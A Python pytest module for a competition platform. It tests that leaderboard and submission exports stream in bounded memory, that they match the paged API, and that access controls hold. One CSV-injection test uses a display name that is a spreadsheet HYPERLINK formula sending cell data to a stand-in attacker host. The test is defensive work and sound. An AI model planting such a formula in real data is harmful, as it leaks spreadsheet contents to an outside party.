"""Streamed exports through the gateway: a 100,000-row board, 50,000 submissions (SPEC §10.2).

Rows are seeded straight through the services' repositories in bulk (scoring
100,000 files through the broker would only slow the suite down); the exports
then go through the gateway like any download. Each export must stream in
bounded memory and equal the API's pages, item for item.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import sys
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
import redis.asyncio as redis
from podium_runtime.db import Database
from podium_runtime.testing import TestInfrastructure, eventually
from sqlalchemy import insert

sys.path.insert(0, str(Path(__file__).parent))

from platform_support.memory import Growth, heap_growth
from platform_support.stack import User
from submissions_support.stack import PredictionStack, prediction_stack

pytestmark = [pytest.mark.slow, pytest.mark.timeout(1200)]

BOARD_ROWS = 100_000
SUBMISSION_ROWS = 50_000
#: Peak memory an export may add to the process running every service (KiB).
MEMORY_BOUND_KIB = 64 * 1024


@pytest.fixture(scope="module")
async def stack(
    test_infra: TestInfrastructure, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[PredictionStack]:
    """One running stack for the whole module."""
    async with prediction_stack(test_infra, tmp_path_factory.mktemp("exports")) as running:
        yield running


def canonical(item: dict[str, Any]) -> bytes:
    """One item in a form independent of key order."""
    return orjson.dumps(item, option=orjson.OPT_SORT_KEYS)


async def stream_export(
    http: httpx.AsyncClient, path: str, user: User | None, *, traced: bool = False, **params: Any
) -> tuple[str, int, int, list[str]]:
    """Download an export line by line; return its digest, line count, head, and with
    `traced` the memory it grew the heap by (tracing slows every allocation: 0 without)."""
    digest, lines, head = hashlib.sha256(), 0, []
    with heap_growth() if traced else contextlib.nullcontext(Growth()) as growth:
        async with http.stream(
            "GET", path, params=params, headers=user.auth if user else {}
        ) as got:
            assert got.status_code == 200, await got.aread()
            async for line in got.aiter_lines():
                if params["format"] == "jsonl":
                    digest.update(canonical(orjson.loads(line)))
                if len(head) < 3:
                    head.append(line)
                lines += 1
    return digest.hexdigest(), lines, growth.kib, head


async def pages_digest(
    http: httpx.AsyncClient, path: str, user: User | None, key: str, **params: Any
) -> tuple[str, int, list[dict[str, Any]]]:
    """Walk the API's pages; return the digest of their items, the count and the first items."""
    digest, count, first = hashlib.sha256(), 0, []
    cursor = None
    while True:
        query = {**params, "limit": 200, **({"cursor": cursor} if cursor else {})}
        got = await http.get(path, params=query, headers=user.auth if user else {})
        assert got.status_code == 200, got.text
        body = got.json()
        for item in body[key]:
            digest.update(canonical(item))
            if len(first) < 2:
                first.append(item)
            count += 1
        cursor = body.get("next_cursor")
        if not cursor:
            return digest.hexdigest(), count, first


async def seed_board(test_infra: TestInfrastructure, competition_id: str) -> None:
    """Store 100,000 scored submissions through the projection's tables and rank them."""
    from podium_competitions.boards import BoardWriter
    from podium_competitions.leaderboard.mirror import LeaderboardMirror
    from podium_competitions.leaderboard.models import leaderboard_submissions
    from podium_competitions.leaderboard.service import recompute_board

    cid = uuid.UUID(competition_id)
    start = datetime(2026, 3, 1, tzinfo=UTC)
    rows = [
        {
            "submission_id": uuid.uuid4(),
            "competition_id": cid,
            "user_id": uuid.uuid4(),
            "higher_is_better": True,
            # Many equal scores: ties are broken by time, as on any board.
            "public_score": (i * 7919 % 5000) / 5000,
            "private_score": (i * 104729 % 5000) / 5000,
            "submitted_at": start + timedelta(seconds=i),
            "scored_at": start + timedelta(seconds=i),
        }
        for i in range(BOARD_ROWS)
    ]
    database = Database(test_infra.database_url)
    client = redis.from_url(test_infra.infra.redis_url)
    try:
        async with database.session() as session:
            for first in range(0, len(rows), 10_000):
                await session.execute(insert(leaderboard_submissions), rows[first : first + 10_000])
            writer = BoardWriter(client)
            await recompute_board(session, None, LeaderboardMirror(writer), cid)
        await writer.flush()  # the mirror is written once the transaction committed
    finally:
        await client.aclose()
        await database.dispose()


async def seed_submissions(test_infra: TestInfrastructure, competition_id: str) -> None:
    """Store 50,000 submissions in scoring's table, in every status."""
    from podium_scoring.models import submissions

    cid = uuid.UUID(competition_id)
    start = datetime(2026, 3, 1, tzinfo=UTC)
    rows = []
    for i in range(SUBMISSION_ROWS):
        rejected = i % 10 == 0
        rows.append(
            {
                "submission_id": uuid.uuid4(),
                "competition_id": cid,
                "user_id": uuid.uuid4(),
                "status": "rejected" if rejected else "scored",
                "blob_key": f"submissions/{cid}/{i}.csv",
                "sha256": "0" * 64,
                "size_bytes": 1000 + i,
                "metric": "auc_roc",
                "public_score": None if rejected else i / SUBMISSION_ROWS,
                "private_score": None if rejected else 1 - i / SUBMISSION_ROWS,
                "errors": (
                    [{"code": "MISSING_IDS", "message": "3 ids are missing", "count": 3}]
                    if rejected
                    else []
                ),
                # Pairs share an instant: the keyset must order by id within it.
                "submitted_at": start + timedelta(seconds=i // 2),
                "scored_at": start + timedelta(seconds=i // 2, milliseconds=500),
            }
        )
    database = Database(test_infra.database_url)
    try:
        async with database.session() as session:
            for first in range(0, len(rows), 10_000):
                await session.execute(insert(submissions), rows[first : first + 10_000])
    finally:
        await database.dispose()


async def test_a_100k_board_exports_streamed_and_equal_to_its_pages(
    stack: PredictionStack, test_infra: TestInfrastructure
) -> None:
    owner = await stack.sign_up("Sponsor")
    competition = await stack.prediction_competition(owner)
    cid = competition["id"]
    await seed_board(test_infra, cid)
    path = f"/v1/competitions/{cid}/leaderboard"

    exported, lines, grown, _ = await stream_export(
        stack.http, f"{path}/export", None, traced=True, format="jsonl"
    )
    print(f"board export: {lines} lines, peak memory +{grown} KiB")
    assert lines == BOARD_ROWS
    assert grown < MEMORY_BOUND_KIB, f"the export grew memory by {grown} KiB"
    paged, count, first = await pages_digest(stack.http, path, None, "entries")
    assert (count, exported) == (BOARD_ROWS, paged)

    _, csv_lines, _, head = await stream_export(stack.http, f"{path}/export", None, format="csv")
    assert csv_lines == BOARD_ROWS + 1
    header, row = list(csv.reader(io.StringIO("\n".join(head[:2]))))
    assert header[:3] == ["rank", "user_id", "display_name"]
    assert (int(row[0]), row[1], float(row[3])) == (
        first[0]["rank"],
        first[0]["user_id"],
        first[0]["score"],
    )
    # The private split is the owner's before the end, like the board itself.
    hidden = await stack.http.get(f"{path}/export", params={"split": "private"})
    assert hidden.status_code == 403
    private, private_lines, _, _ = await stream_export(
        stack.http, f"{path}/export", owner, format="jsonl", split="private"
    )
    assert private_lines == BOARD_ROWS and private != exported


async def test_50k_submissions_export_streamed_and_equal_to_the_owners_pages(
    stack: PredictionStack, test_infra: TestInfrastructure
) -> None:
    owner = await stack.sign_up("Sponsor")
    competition = await stack.prediction_competition(owner)
    cid = competition["id"]
    await seed_submissions(test_infra, cid)
    path = f"/v1/competitions/{cid}/submissions"

    player = await stack.sign_up()
    refused = await stack.http.get(f"{path}/export", params={"format": "csv"}, headers=player.auth)
    assert refused.status_code == 403

    digest = hashlib.sha256()
    lines = 0
    with heap_growth() as growth:
        async with stack.http.stream(
            "GET", f"{path}/export", params={"format": "jsonl"}, headers=owner.auth
        ) as got:
            assert got.status_code == 200
            async for line in got.aiter_lines():
                item = orjson.loads(line)
                assert item.pop("team_id") is None  # nobody here is in a team
                digest.update(canonical(item))
                lines += 1
    grown = growth.kib
    print(f"submissions export: {lines} lines, peak memory +{grown} KiB")
    assert lines == SUBMISSION_ROWS
    assert grown < MEMORY_BOUND_KIB, f"the export grew memory by {grown} KiB"
    paged, count, first = await pages_digest(stack.http, path, owner, "items")
    assert (count, digest.hexdigest()) == (SUBMISSION_ROWS, paged)

    _, csv_lines, _, head = await stream_export(stack.http, f"{path}/export", owner, format="csv")
    assert csv_lines == SUBMISSION_ROWS + 1
    rows = list(csv.DictReader(io.StringIO("\n".join(head))))
    assert rows[0]["id"] == first[0]["id"] and rows[0]["status"] == first[0]["status"]
    assert json.loads(rows[0]["errors"]) == first[0]["errors"]


async def test_authors_and_owners_download_submission_files(stack: PredictionStack) -> None:
    from submissions_support.stack import answer_key, predictions_csv

    owner = await stack.sign_up("Sponsor")
    competition = await stack.prediction_competition(owner)
    cid = competition["id"]
    csv_key, ids, targets = answer_key(seed=31, rows=40)
    await stack.upload_key(cid, owner, csv_key)
    author, other = await stack.sign_up(), await stack.sign_up()
    for player in (author, other):
        assert (await stack.join(cid, player))["status"] == "accepted"
    content = predictions_csv(ids, targets * 0.5)
    made = await stack.submit(cid, author, content)
    sid = made.json()["id"]
    for reader in (author, owner):
        got = await stack.http.get(f"/v1/submissions/{sid}/file", headers=reader.auth)
        assert got.status_code == 200 and got.content == content
    stranger = await stack.http.get(f"/v1/submissions/{sid}/file", headers=other.auth)
    assert stranger.status_code == 404


async def test_a_name_a_spreadsheet_would_run_is_exported_as_text(stack: PredictionStack) -> None:
    """A participant's name is the participant's to choose; in the sponsor's spreadsheet it
    must stay text (CSV injection): the CSV cell starts with an apostrophe, JSON is exact."""
    from submissions_support.stack import answer_key, predictions_csv

    owner = await stack.sign_up("Sponsor")
    competition = await stack.prediction_competition(owner)
    cid = competition["id"]
    csv_key, ids, targets = answer_key(seed=47, rows=40)
    await stack.upload_key(cid, owner, csv_key)
    name = '=HYPERLINK("http://attacker.test/?leak="&A1,"Winner")'
    player = await stack.sign_up(name)
    assert (await stack.join(cid, player))["status"] == "accepted"
    made = await stack.submit(cid, player, predictions_csv(ids, targets * 0.9))
    assert made.status_code == 202, made.text
    assert (await stack.outcome(made.json()["id"], player))["status"] == "scored"

    async def named_line() -> list[dict[str, Any]] | None:
        entries: list[dict[str, Any]] = (await stack.board(cid)).json()["entries"]
        return entries if [e["display_name"] for e in entries] == [name] else None

    await eventually(named_line, timeout=30, message="the participant's line on the board")
    path = f"/v1/competitions/{cid}/leaderboard/export"
    as_csv = await stack.http.get(path, params={"format": "csv"})
    assert as_csv.status_code == 200 and as_csv.headers["cache-control"] == "private, no-store"
    rows = list(csv.DictReader(io.StringIO(as_csv.text, newline="")))
    assert [row["display_name"] for row in rows] == ["'" + name]
    as_json = await stack.http.get(path, params={"format": "jsonl"})
    assert [orjson.loads(line)["display_name"] for line in as_json.text.splitlines()] == [name]
